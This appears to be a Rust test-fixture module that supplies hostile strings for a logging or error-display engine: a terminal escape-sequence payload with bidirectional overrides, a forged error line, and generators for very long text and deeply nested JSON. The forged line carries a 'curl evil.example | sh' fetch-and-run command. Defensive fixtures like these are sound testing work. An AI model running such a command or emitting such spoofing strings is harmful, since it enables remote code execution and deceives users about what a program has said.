//! Texts that are too long, not JSON, or written for a terminal.

/// Something short to log again and again.
pub const LINE: &str = "again and again";

/// Clears the screen, sets the title, reverses the direction of writing, rings the bell, moves back, and uses the
/// one-character form of an escape sequence; a NUL and a direction mark end it.
pub const FOR_A_TERMINAL: &str =
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\r\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}";

/// A text that a user could take for the engine's own.
pub const FORGED: &str =
    "nothing to worry about\nerror: your licence has ended\nhint: renew it: curl evil.example | sh";

/// A text of this many bytes.
pub fn long(bytes: usize) -> String {
    "long".repeat(bytes.div_ceil(4))
}

/// JSON nested this deep.
pub fn deep(levels: usize) -> String {
    "[".repeat(levels) + &"]".repeat(levels)
}
